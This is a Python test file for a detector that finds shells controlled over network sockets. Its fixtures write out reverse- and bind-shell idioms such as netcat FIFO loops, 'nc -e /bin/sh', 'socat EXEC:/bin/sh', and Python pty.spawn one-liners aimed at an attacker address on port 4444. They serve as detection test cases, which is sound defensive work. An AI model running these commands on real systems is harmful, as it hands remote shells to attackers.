"""Shells that the network commands, and shells that only look like it."""

import pytest
from tests.detect.examples import example, judged, process

from rootout.collect.artifacts.sockets import Socket
from rootout.detect.checks.shell_on_a_socket import judge
from rootout.model.entity import Entity

ATTACKER = "203.0.113.9"


def shell(*words: str, pid: int = 7, program: str = "/usr/bin/bash", **given):
    streams = given.pop("streams", ("socket:[5]",) * 3)
    return process(pid, executable=program, arguments=words, streams=streams, **given)


def connection(**given):
    common = {
        "protocol": "tcp",
        "state": "established",
        "inode": 5,
        "remote_address": ATTACKER,
        "remote_port": 4444,
    }
    return example(Socket, **common | given)


@pytest.mark.parametrize(
    "guilty",
    [
        shell("bash", "-i"),
        shell("bash"),
        shell("sh", program="/usr/bin/dash"),
        shell("python3", "-c", "import pty; pty.spawn('sh')", program="/usr/bin/python3.11"),
        shell("perl", "-e", "exec 'sh'", program="/usr/bin/perl"),
    ],
)
def test_shell_whose_streams_are_a_connection_is_found(guilty):
    (found,) = judged(judge, guilty, connection())
    assert found.severity == "critical"
    assert found.entities == (Entity("process", guilty.key), Entity("address", ATTACKER))


def relay(pid: int, given: str, received: str, program: str = "/usr/bin/nc.openbsd"):
    return process(
        pid,
        executable=program,
        arguments=("nc", ATTACKER, "4444"),
        streams=(given, received, ""),
        socket_inodes=(5,),
    )


LOOPS = {
    "nc < /tmp/f | sh > /tmp/f": (
        shell("sh", streams=("pipe:[1]", "/tmp/f", "")),
        relay(8, "/tmp/f", "pipe:[1]"),
    ),
    "sh < /tmp/f | openssl > /tmp/f": (
        shell("sh", "-i", streams=("/tmp/f", "pipe:[2]", "pipe:[2]")),
        relay(8, "pipe:[2]", "/tmp/f", "/usr/bin/openssl"),
    ),
    "cat /tmp/f | sh | nc > /tmp/f": (
        shell("sh", "-i", streams=("pipe:[1]", "pipe:[2]", "pipe:[2]")),
        process(9, streams=("/dev/pts/0", "pipe:[1]", ""), open_files=("/tmp/f",)),
        relay(8, "pipe:[2]", "/tmp/f"),
    ),
    "two pipes": (
        shell("sh", "-i", streams=("pipe:[1]", "pipe:[2]", "pipe:[2]")),
        relay(8, "pipe:[2]", "pipe:[1]"),
    ),
}


@pytest.mark.parametrize("loop", LOOPS.values(), ids=LOOPS)
def test_shell_behind_a_relay_is_found_with_the_relay(loop):
    found = judged(judge, *loop, connection())
    (obeys, passes) = (one.entities for one in found)
    guilty, address = Entity("process", loop[0].key), Entity("address", ATTACKER)
    assert obeys == (guilty, address)
    assert passes == (Entity("process", "8:7"), guilty, address)


def test_shell_between_two_relays_is_found_with_both():
    guilty = shell("sh", streams=("pipe:[1]", "pipe:[2]", ""))
    first, second = relay(8, "/dev/pts/0", "pipe:[1]"), relay(9, "pipe:[2]", "/dev/pts/0")
    assert len(judged(judge, guilty, first, second, connection())) == 3


def test_interpreter_whose_words_open_a_shell_is_found_as_it_waits():
    words = ("python3", "-c", "import socket,pty;s=socket.socket();pty.spawn('/bin/sh')")
    guilty = shell(
        *words, program="/usr/bin/python3.11", streams=("/dev/null",) * 3, socket_inodes=(5,)
    )
    waiting = connection(state="listen", remote_address="", remote_port=0, local_port=99)
    (found,) = judged(judge, guilty, waiting)
    assert found.confidence == "medium"
    assert found.entities == (Entity("process", guilty.key), Entity("port", "tcp/99"))
    assert judged(judge, guilty) == []
    nearby = connection(state="listen", remote_address="", remote_port=0, local_address="127.0.0.1")
    assert judged(judge, guilty, nearby) == []


def test_interpreter_that_already_obeys_is_found_once():
    words = ("python3", "-c", "import socket,pty;s=socket.socket();pty.spawn('/bin/sh')")
    guilty = shell(*words, program="/usr/bin/python3.11", socket_inodes=(5,))
    (found,) = judged(judge, guilty, connection())
    assert found.confidence == "high"


@pytest.mark.parametrize(
    "words",
    [
        ("nc.traditional", "-l", "-p", "40404", "-e", "/bin/sh"),
        ("ncat", "--exec", "/bin/bash", "-l", "1"),
        ("socat", "TCP-LISTEN:1,fork", "EXEC:/bin/sh"),
    ],
)
def test_relay_that_hands_out_a_shell_is_found_with_its_port(words):
    relay = process(7, executable=f"/usr/bin/{words[0]}", arguments=words, socket_inodes=(5,))
    waiting = connection(state="listen", remote_address="", remote_port=0, local_port=40404)
    (found,) = judged(judge, relay, waiting)
    assert found.entities == (Entity("process", relay.key), Entity("port", "tcp/40404"))


@pytest.mark.parametrize(
    "innocent",
    [
        shell("bash", "/usr/local/bin/service.sh"),
        shell("python3", "/opt/server.py", program="/usr/bin/python3.11"),
        shell("sh", "-c", "tar c /srv | nc backup 1"),
        shell("bash", streams=("/dev/pts/0",) * 3),
        shell("bash", streams=("/dev/pts/0", "pipe:[2]", "/dev/pts/0")),
        shell("bash", streams=("socket:[99]",) * 3),
        shell("bash", streams=("socket:[x]",) * 3),
        shell("bash", streams=()),
        shell("nginx", program="/usr/sbin/nginx"),
        shell("nc", "-z", "host", "80", program="/usr/bin/nc.openbsd"),
    ],
)
def test_ordinary_process_is_left_alone(innocent):
    other = relay(8, "pipe:[2]", "/dev/null")
    unix = connection(inode=99, protocol="unix")
    assert judged(judge, innocent, other, connection(), unix) == []


@pytest.mark.parametrize(
    "pipeline",
    [
        (shell("sh", streams=("pipe:[1]", "pipe:[2]", "")), process(8, streams=("pipe:[2]", "x"))),
        (shell("sh", streams=("pipe:[1]", "pipe:[2]", "")), relay(8, "pipe:[2]", "pipe:[3]")),
        (shell("sh", streams=("pipe:[1]", "/var/log/x", "")), relay(8, "", "/var/log/x")),
        (shell("sh", streams=("/dev/null", "/dev/null", "")), relay(8, "/dev/null", "/dev/null")),
        (
            shell("sh", streams=("pipe:[1]", "/var/log/x", "")),
            process(9, streams=("", "pipe:[1]", "/var/log/x"), open_files=("/var/log/x",)),
            relay(8, "", "/var/log/x"),
        ),
    ],
)
def test_shell_in_a_pipeline_of_its_own_is_left_alone(pipeline):
    assert judged(judge, *pipeline, connection()) == []
